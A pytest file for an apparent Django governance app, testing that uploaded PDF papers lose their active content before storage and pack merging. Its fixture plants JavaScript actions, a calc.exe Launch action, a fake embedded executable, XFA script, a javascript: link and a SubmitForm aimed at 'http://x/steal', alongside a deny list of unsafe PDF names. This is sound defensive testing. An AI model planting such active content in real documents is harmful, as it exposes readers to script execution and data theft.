"""Uploaded papers reach the pack without JavaScript, launch actions, embedded files or form scripts."""

import hashlib
import io
import re

import pytest
from django.core.exceptions import ValidationError
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    TextStringObject,
)
from reportlab.lib.pagesizes import A4
from reportlab.pdfgen.canvas import Canvas

from reports.render.pdf_pack import pdf_pack_build
from reports.render.pdf_sanitise import pages_sanitise, pdf_sanitise
from reports.services import files
from reports.services.meetings import paper_check, paper_upload
from tests.reports.pack_helpers import synthetic_pack
from tests.reports.render_helpers import read_back
from tests.reports.workflow_factories import AgendaItemFactory

UNSAFE_NAMES = ("JavaScript", "JS", "Launch", "EmbeddedFile", "EmbeddedFiles", "SubmitForm", "GoToR", "XFA", "AA")
PAGE_TEXT = "Finance Monitoring Report: the words on the page"


def unsafe_in(data: bytes) -> list[str]:
    """The unsafe PDF names in the file, as whole names (a font called /AAAAAA+Vera is not /AA)."""
    found = {match.decode() for match in re.findall(rb"/([A-Za-z]+)(?=[\s/<>\[\]()]|$)", data)}
    return [unsafe for unsafe in UNSAFE_NAMES if unsafe in found]


def name(value: str) -> NameObject:
    return NameObject(value)


def action(kind: str, **entries) -> DictionaryObject:
    made = DictionaryObject({name("/Type"): name("/Action"), name("/S"): name(kind)})
    for key, value in entries.items():
        made[name(f"/{key}")] = value
    return made


def javascript(code: str) -> DictionaryObject:
    return action("/JavaScript", JS=TextStringObject(code))


def annotation(subtype: str, rect: tuple, **entries) -> DictionaryObject:
    made = DictionaryObject(
        {
            name("/Type"): name("/Annot"),
            name("/Subtype"): name(subtype),
            name("/Rect"): ArrayObject(FloatObject(value) for value in rect),
        }
    )
    for key, value in entries.items():
        made[name(f"/{key}")] = value
    return made


def hostile_pdf() -> bytes:
    """A one-page paper with every way a PDF runs or carries something, and one ordinary web link."""
    buffer = io.BytesIO()
    canvas = Canvas(buffer, pagesize=A4)
    canvas.drawString(72, 760, PAGE_TEXT)
    canvas.showPage()
    canvas.save()
    writer = PdfWriter(clone_from=io.BytesIO(buffer.getvalue()))
    writer.add_attachment("payload.exe", b"MZ this would run")  # /Names /EmbeddedFiles
    names = writer._root_object["/Names"].get_object()
    names[name("/JavaScript")] = DictionaryObject(
        {
            name("/Names"): ArrayObject(
                [TextStringObject("onload"), writer._add_object(javascript("app.alert('document JavaScript');"))]
            )
        }
    )
    writer._root_object[name("/OpenAction")] = writer._add_object(javascript("app.alert('on open');"))
    writer._root_object[name("/AA")] = DictionaryObject({name("/WC"): javascript("app.alert('on close');")})
    writer._root_object[name("/AcroForm")] = DictionaryObject(
        {name("/Fields"): ArrayObject(), name("/XFA"): TextStringObject("<xdp:xdp>script</xdp:xdp>")}
    )
    page = writer.pages[0]
    page[name("/AA")] = DictionaryObject({name("/O"): javascript("app.alert('page open');")})
    embedded = DecodedStreamObject()
    embedded.set_data(b"MZ attached")
    embedded[name("/Type")] = name("/EmbeddedFile")
    filespec = DictionaryObject(
        {
            name("/Type"): name("/Filespec"),
            name("/F"): TextStringObject("attached.exe"),
            name("/EF"): DictionaryObject({name("/F"): writer._add_object(embedded)}),
        }
    )
    annotations = [
        annotation("/Link", (72, 700, 200, 720), A=javascript("app.launchURL('http://x');")),
        annotation("/Link", (72, 670, 200, 690), A=action("/Launch", F=TextStringObject("calc.exe"))),
        annotation("/Link", (72, 640, 200, 660), A=action("/URI", URI=TextStringObject("javascript:alert(1)"))),
        annotation(
            "/Link",
            (72, 610, 200, 630),
            A=action("/GoToR", F=TextStringObject("other.pdf"), D=ArrayObject([FloatObject(0)])),
        ),
        annotation("/Link", (72, 580, 200, 600), A=action("/SubmitForm", F=TextStringObject("http://x/steal"))),
        annotation(
            "/Link",
            (72, 550, 200, 570),
            A=action("/URI", URI=TextStringObject("https://www.example.org/report"), Next=javascript("app.alert(2)")),
        ),
        annotation("/FileAttachment", (72, 520, 90, 540), FS=filespec),
        annotation("/Widget", (72, 490, 200, 510), AA=DictionaryObject({name("/K"): javascript("event.rc=0;")})),
        annotation(
            "/Widget",
            (72, 460, 200, 480),
            Parent=writer._add_object(
                DictionaryObject(
                    {
                        name("/FT"): name("/Tx"),
                        name("/T"): TextStringObject("amount"),
                        name("/AA"): DictionaryObject({name("/C"): javascript("event.value=1;")}),
                    }
                )
            ),
        ),
    ]
    page[name("/Annots")] = ArrayObject(writer._add_object(made) for made in annotations)
    output = io.BytesIO()
    writer.write(output)
    return output.getvalue()


def uri_links(page) -> list[str]:
    return [
        str(annotation.get_object()["/A"]["/URI"])
        for annotation in page.get("/Annots", [])
        if annotation.get_object().get("/Subtype") == "/Link" and "/A" in annotation.get_object()
    ]


def test_the_hostile_paper_really_carries_what_must_go():
    data = hostile_pdf()

    assert unsafe_in(data) == list(UNSAFE_NAMES)


def test_a_sanitised_paper_keeps_its_text_and_web_link_and_loses_everything_that_runs():
    cleaned = pdf_sanitise(hostile_pdf())

    assert unsafe_in(cleaned) == []
    page = PdfReader(io.BytesIO(cleaned)).pages[0]
    assert PAGE_TEXT in page.extract_text()
    assert uri_links(page) == ["https://www.example.org/report"]
    assert [annotation.get_object()["/Subtype"] for annotation in page["/Annots"]] == ["/Link", "/Widget", "/Widget"]


def test_a_sanitised_paper_has_nothing_left_to_remove():
    once = pdf_sanitise(hostile_pdf())

    assert pages_sanitise(PdfReader(io.BytesIO(once)).pages) == 0


def test_paper_check_stores_the_sanitised_paper_and_its_hash():
    checked = paper_check(name="finance.pdf", data=hostile_pdf())

    assert unsafe_in(checked.data) == []
    assert (checked.pages, checked.sha256) == (1, hashlib.sha256(checked.data).hexdigest())


def test_an_uploaded_paper_is_stored_without_its_scripts(db, governance):
    item = AgendaItemFactory(number=9)

    paper_upload(item=item, by=governance, name="finance.pdf", data=hostile_pdf())

    item.refresh_from_db()
    stored = files.absolute(item.paper.name).read_bytes()
    assert unsafe_in(stored) == []
    assert item.paper_sha256 == hashlib.sha256(stored).hexdigest()
    assert PAGE_TEXT in PdfReader(io.BytesIO(stored)).pages[0].extract_text()


def test_the_pack_merges_a_stored_hostile_paper_without_its_scripts(tmp_path):
    """A paper stored before uploads were cleaned is cleaned again as it is merged."""
    path = tmp_path / "finance.pdf"
    path.write_bytes(hostile_pdf())

    pdf, registry = pdf_pack_build(synthetic_pack(1, uploads=[str(path)]))

    assert unsafe_in(pdf) == []
    page_number = registry.upload_slots[0][0]
    back = read_back(pdf)
    assert PAGE_TEXT in back.pages[page_number - 1]
    assert uri_links(back.reader.pages[page_number - 1]) == ["https://www.example.org/report"]


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"{\\rtf1 a Word document}", "\u201cfinance.pdf\u201d is not a PDF: save or export the paper as PDF"),
        (b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog", "\u201cfinance.pdf\u201d cannot be read as a PDF"),
    ],
    ids=["not-a-pdf", "truncated"],
)
def test_a_paper_that_is_not_a_readable_pdf_is_refused_naming_the_file_and_the_fix(data, message):
    with pytest.raises(ValidationError) as error:
        paper_check(name="finance.pdf", data=data)

    assert error.value.messages[0].startswith(message)
